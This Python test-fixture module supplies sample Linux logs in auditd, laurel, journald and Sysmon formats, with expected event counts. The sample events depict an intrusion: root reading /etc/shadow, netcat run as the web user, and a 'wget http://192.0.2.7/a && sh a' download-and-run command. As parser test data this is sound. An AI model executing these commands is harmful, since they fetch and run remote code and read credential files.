"""Small logs of Linux machines beside syslog: source name -> [(file name, bytes, events expected)]."""

from __future__ import annotations

import json

AUDIT = (
    b"type=SYSCALL msg=audit(1772445601.100:101): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 "
    b'ppid=900 pid=901 auid=1000 uid=0 gid=0 euid=0 ses=3 tty=pts0 comm="cat" exe="/usr/bin/cat" key="exec"\x1dARCH=x86_64 '
    b'SYSCALL=execve AUID="ann" UID="root"\n'
    b"type=SYSCALL msg=audit(1772445601.200:102): arch=c000003e syscall=42 success=no exit=-115 a0=3 items=0 ppid=1 pid=77 auid=4294967295 "
    b'uid=33 ses=4294967295 comm="nc" exe="/usr/bin/nc" key=(null)\n'
    b'type=EXECVE msg=audit(1772445601.100:101): argc=3 a0="cat" a1="/etc/shadow" a2=612062\n'
    b'type=CWD msg=audit(1772445601.100:101): cwd="/root"\n'
    b"type=SOCKADDR msg=audit(1772445601.200:102): saddr=02001F90C0000207000000000000\n"
    b'type=PATH msg=audit(1772445601.100:101): item=0 name="/usr/bin/cat" inode=1 mode=0100755 nametype=NORMAL\n'
    b"type=PROCTITLE msg=audit(1772445601.100:101): proctitle=636174002F6574632F736861646F77\n"
    b"type=EOE msg=audit(1772445601.100:101): \n"
    b'node=web1 type=USER_LOGIN msg=audit(1772445602.000:103): pid=88 uid=0 auid=4294967295 ses=4294967295 msg=\'op=login acct="bob" '
    b'exe="/usr/sbin/sshd" hostname=? addr=198.51.100.7 terminal=sshd res=failed\'\x1dUID="root" AUID="unset"\n'
)
EVENT: dict[str, object] = {
    "ID": "1772445601.100:101", "NODE": "web1",
    "SYSCALL": {
        "arch": "0xc000003e", "syscall": 59, "success": "yes", "exit": 0, "items": 2, "ppid": 900, "pid": 901, "auid": 1000, "uid": 0,
        "ses": 3, "comm": "cat", "exe": "/usr/bin/cat", "key": "exec", "ARCH": "x86_64", "SYSCALL": "execve", "AUID": "ann", "UID": "root",
    },
    "EXECVE": {"argc": 2, "ARGV": ["cat", "/etc/shadow"]}, "CWD": {"cwd": "/root"},
    "PATH": [{"item": 0, "name": "/usr/bin/cat", "nametype": "NORMAL"}, {"item": 1, "name": "/lib64/ld.so", "nametype": "NORMAL"}],
    "PROCTITLE": {"ARGV": ["cat", "/etc/shadow"]},
    "PARENT_INFO": {"ID": "1772445600.000:99", "comm": "bash", "exe": "/usr/bin/bash", "ppid": 1},
}  # fmt: skip


def entry(second: int, **more: object) -> dict[str, object]:
    """A record of `journalctl -o json`."""
    return {
        "__CURSOR": f"s=0;i={second:x}", "__REALTIME_TIMESTAMP": str(1_772_445_600_000_000 + second * 1_000_000 + 250),
        "__MONOTONIC_TIMESTAMP": "5", "_BOOT_ID": "b" * 32, "_MACHINE_ID": "a" * 32, "_HOSTNAME": "web1", "_TRANSPORT": "syslog",
        "PRIORITY": "6", "SYSLOG_FACILITY": "10", **more,
    }  # fmt: skip


SSHD: dict[str, object] = {
    "SYSLOG_IDENTIFIER": "sshd", "_PID": "811", "_UID": "0", "_COMM": "sshd", "_EXE": "/usr/sbin/sshd", "_CMDLINE": "sshd: ann [priv]",
    "_SYSTEMD_UNIT": "ssh.service",
}  # fmt: skip
ENTRIES = [
    entry(1, **SSHD, MESSAGE="Accepted publickey for ann from 10.0.0.5 port 50123 ssh2: ED25519 SHA256:abc"),
    entry(2, **SSHD, MESSAGE=list(b"Failed password for invalid user bo\xffb from 198.51.100.7 port 2222 ssh2")),
    entry(3, SYSLOG_IDENTIFIER="kernel", MESSAGE="eth0: link is up", _TRANSPORT="kernel", PRIORITY="4"),
]


def sysmon(number: int, second: int, **data: str) -> str:
    """One event of Sysmon for Linux, as it stands in syslog."""
    fields = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in data.items())
    return (
        '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
        f"<EventID>{number}</EventID><Version>5</Version><Level>4</Level><Task>{number}</Task><Opcode>0</Opcode>"
        f'<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-03-02T10:00:{second:02d}.123456000Z"/>'
        f'<EventRecordID>{number}</EventRecordID><Correlation/><Execution ProcessID="600" ThreadID="600"/>'
        "<Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer>"
        f'<Security UserId="0"/></System><EventData>{fields}</EventData></Event>'
    )


CREATED = sysmon(
    1, 1, RuleName="-", UtcTime="2026-03-02 10:00:01.130", ProcessGuid="{ec2e1a1b-0001-0002-0003-000000000001}", ProcessId="901",
    Image="/usr/bin/wget", CommandLine="wget http://192.0.2.7/a &amp;&amp; sh a", CurrentDirectory="/tmp", User="www-data", LogonId="33",
    IntegrityLevel="no level", Hashes="SHA256=" + "ab" * 32, ParentProcessGuid="{ec2e1a1b-0001-0002-0003-000000000000}",
    ParentProcessId="900", ParentImage="/bin/sh", ParentCommandLine="sh -c &quot;wget&quot;", ParentUser="www-data",
)  # fmt: skip
CONNECTED = sysmon(
    3, 2, UtcTime="2026-03-02 10:00:02.000", ProcessGuid="{ec2e1a1b-0001-0002-0003-000000000001}", ProcessId="901", Image="/usr/bin/wget",
    User="www-data", Protocol="tcp", Initiated="true", SourceIp="10.0.0.5", SourcePort="50123", DestinationIp="192.0.2.7",
    DestinationHostname="-", DestinationPort="80",
)  # fmt: skip
_HEAD = "Mar  2 10:00:0%d web1 sysmon[600]: "


def _lines(*records: object) -> bytes:
    return b"".join(json.dumps(record).encode() + b"\n" for record in records)


SYSMON_IN_SYSLOG = ("sysmon", b"".join((_HEAD % at + text).encode() + b"\n" for at, text in ((1, CREATED), (2, CONNECTED))), 2)
SAMPLES: dict[str, list[tuple[str, bytes, int]]] = {
    "auditd": [("audit.log", AUDIT, 3)],
    "laurel": [("laurel.json", _lines(EVENT, {**EVENT, "ID": "1772445609.100:110"}), 2)],
    "journald": [
        ("journal.json", _lines(*ENTRIES), 3),
        ("pretty.json", b"".join(json.dumps(one, indent="\t").encode() + b"\n" for one in ENTRIES), 3),
        ("sysmon.json", _lines(
            entry(1, SYSLOG_IDENTIFIER="sysmon", MESSAGE=CREATED), entry(2, SYSLOG_IDENTIFIER="sysmon", MESSAGE=CONNECTED)), 2),
        ("journal.sse", b"".join(b"data: " + json.dumps(one).encode() + b"\n\n" for one in ENTRIES), 3),
    ],
    "sysmon-linux": [
        ("sysmon.xml", (CREATED + "\n" + CONNECTED + "\n").encode(), 2),
    ],
}  # fmt: skip
